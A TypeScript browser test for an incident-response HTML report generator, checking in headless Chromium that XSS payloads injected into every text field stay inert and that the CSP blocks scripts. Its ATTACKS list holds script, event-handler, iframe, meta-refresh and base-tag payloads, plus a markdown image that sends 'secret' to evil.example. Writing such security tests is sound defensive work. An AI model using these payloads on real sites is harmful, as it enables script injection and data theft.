/**
 * Loads the HTML report in a real browser (Debian chromium, driven by playwright-core) and checks that
 * nothing from the evidence runs, that our CSP allows our stylesheet and nothing else, and that the
 * report is visible. Skipped when /usr/bin/chromium is absent (CI installs it: apt-get install -y chromium).
 */
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../src/model/types.js';
import { renderHtml } from '../src/report/html.js';

const CHROMIUM = '/usr/bin/chromium';
const here = dirname(fileURLToPath(import.meta.url));
const load = (): Report => JSON.parse(readFileSync(join(here, 'fixtures', 'report-sample.json'), 'utf8'));

const ATTACKS = [
  '<script>window.__pwned=1;document.title="pwned";alert(1)</script>',
  '<img src=x onerror="window.__pwned=1;alert(1)">',
  '"><svg onload="window.__pwned=1">',
  "'><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
  '<a href="javascript:window.__pwned=1">click</a>',
  '</style><style>body{display:none}</style>',
  '</title><script>window.__pwned=1</script>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '![x](https://evil.example/?q=secret) \u202eevil\u202c',
].join(' ');

function hostileReport(): Report {
  const r = load();
  r.summary = `${r.summary} ${ATTACKS}`;
  for (const f of r.findings) {
    f.title += ATTACKS;
    f.description = `${f.description ?? ''}${ATTACKS}`;
  }
  for (const e of r.timeline) e.summary += ATTACKS;
  for (const v of Object.values(r.elements)) v.summary += ATTACKS;
  r.warnings.push(ATTACKS);
  r.coverage.gaps.push(ATTACKS);
  r.scope.resources.push(ATTACKS);
  // the responder views: every string leaf of blastRadius, principals and graph
  for (const k of ['blastRadius', 'principals', 'graph']) r[k] = appendToStrings(r[k], ATTACKS);
  return r;
}

/** The value with `s` appended to every string inside it (numbers, booleans and structure kept). */
function appendToStrings(v: unknown, s: string): Report[string] {
  if (typeof v === 'string') return v + s;
  if (Array.isArray(v)) return v.map((x) => appendToStrings(x, s));
  if (v && typeof v === 'object')
    return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, appendToStrings(x, s)]));
  return v as Report[string];
}

const hasChromium = existsSync(CHROMIUM);

describe.skipIf(!hasChromium)('HTML report in a real browser (chromium)', () => {
  let browser: Browser;
  let dir: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'genai-ir-html-'));
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--no-first-run',
      ],
    });
  });

  afterAll(async () => {
    await browser?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  async function open(htmlText: string, name: string) {
    const file = join(dir, `${name}.html`);
    writeFileSync(file, htmlText);
    const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
    const dialogs: string[] = [];
    const console: string[] = [];
    const requests: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('console', (m) => console.push(`${m.type()}: ${m.text()}`));
    page.on('pageerror', (e) => console.push(`pageerror: ${e.message}`));
    page.on('request', (r) => {
      if (!r.url().startsWith('file:') && !r.url().startsWith('data:')) requests.push(r.url());
    });
    await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
    return { page, dialogs, console, requests, file };
  }

  async function assertInert(page: Page, dialogs: string[], console: string[], requests: string[]) {
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(await page.title()).not.toBe('pwned');
    expect(dialogs).toEqual([]);
    expect(requests).toEqual([]);
    expect(await page.evaluate('document.scripts.length')).toBe(0);
    expect(
      await page.locator('[onerror],[onload],[onclick],iframe,img,base,meta[http-equiv="refresh"]').count(),
    ).toBe(0);
    const hrefs = (await page.evaluate(
      "[...document.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'))",
    )) as string[];
    for (const h of hrefs) expect(h).toMatch(/^#[a-z0-9-]+$/);
    // no CSP violation from our own content: our stylesheet is allowed by its hash
    expect(console.filter((m) => /Content Security Policy|Refused to/i.test(m))).toEqual([]);
    expect(console.filter((m) => m.startsWith('pageerror'))).toEqual([]);
  }

  it('the sample report: nothing runs, CSS applies, tiles and verdicts are visible; screenshot', async () => {
    const { page, dialogs, console, requests } = await open(renderHtml(load()), 'sample');
    await assertInert(page, dialogs, console, requests);
    // the stylesheet applied (CSP hash correct): header background is our navy
    const bg = await page.evaluate("getComputedStyle(document.querySelector('header.top')).backgroundColor");
    expect(bg).toBe('rgb(20, 35, 60)');
    const tiles = page.locator('#elements .tile');
    expect(await tiles.count()).toBeGreaterThanOrEqual(7);
    await expect.poll(() => tiles.first().isVisible()).toBe(true);
    const tileText = await page.locator('#elements').innerText();
    for (const w of ['Access', 'AI changes', 'COMPROMISED', 'CLEAR', 'NO EVIDENCE'])
      expect(tileText).toContain(w);
    expect(await page.locator('.verdict.incident').innerText()).toMatch(/Incident confirmed/);
    expect(await page.locator('svg.chart').count()).toBe(2);
    expect(await page.locator('mark').count()).toBeGreaterThan(3);
    // the hostile prompt in the excerpt is shown as text
    const excerpts = await page.locator('#excerpts').innerText();
    expect(excerpts).toContain('<script>window.__pwned=1');
    expect(excerpts).toContain('\\u202e');
    // critical/high findings open, others collapsed
    expect(await page.locator('details.finding.sev-critical[open]').count()).toBe(1);
    expect(await page.locator('details.finding.sev-low[open]').count()).toBe(0);
    // blast radius, principals and graph are shown after the scope
    const blast = await page.locator('#blast-radius').innerText();
    for (const w of ['Models invoked', 'ESTIMATE', 'STILL IN EFFECT', 'LIVE', 'IAM persistence', 'UNKNOWN'])
      expect(blast).toContain(w);
    expect(blast).not.toContain('NOTMASKED99');
    expect(await page.locator('#principals tr.actor').count()).toBe(3);
    expect(await page.locator('#graph ul.rel li').count()).toBeGreaterThan(3);
    const png = join(tmpdir(), 'genai-ir-report-sample.png');
    await page.screenshot({ path: png, fullPage: true });
    expect(statSync(png).size).toBeGreaterThan(50_000);
    await page
      .locator('#blast-radius')
      .screenshot({ path: join(tmpdir(), 'genai-ir-report-blast-radius.png') });
    await page.close();
  });

  it('hostile strings in every free-text field stay inert and visible as text', async () => {
    const { page, dialogs, console, requests } = await open(renderHtml(hostileReport()), 'hostile');
    await assertInert(page, dialogs, console, requests);
    expect(await page.locator('body').isVisible()).toBe(true);
    const text = await page.locator('#summary').innerText();
    expect(text).toContain('<img src=x onerror=');
    for (const id of ['#blast-radius', '#principals', '#graph']) {
      expect(await page.locator(id).isVisible()).toBe(true);
      expect(await page.locator(id).innerText()).toContain('<script>window.__pwned=1');
    }
    expect(await page.locator('#elements .tile').count()).toBeGreaterThanOrEqual(7);
    await page.screenshot({ path: join(tmpdir(), 'genai-ir-report-hostile.png') });
    await page.close();
  });

  it('our CSP blocks a script even if one were injected (defence in depth)', async () => {
    const doc = renderHtml(load()).replace(
      '</body>',
      '<script>window.__pwned=1</script><img src="x" onerror="window.__pwned=2"></body>',
    );
    const { page, console } = await open(doc, 'csp');
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(console.some((m) => /Content Security Policy/i.test(m))).toBe(true);
    await page.close();
  });
});

describe.skipIf(hasChromium)('HTML report in a real browser', () => {
  it('skipped: /usr/bin/chromium is absent (apt-get install -y chromium)', () => {});
});
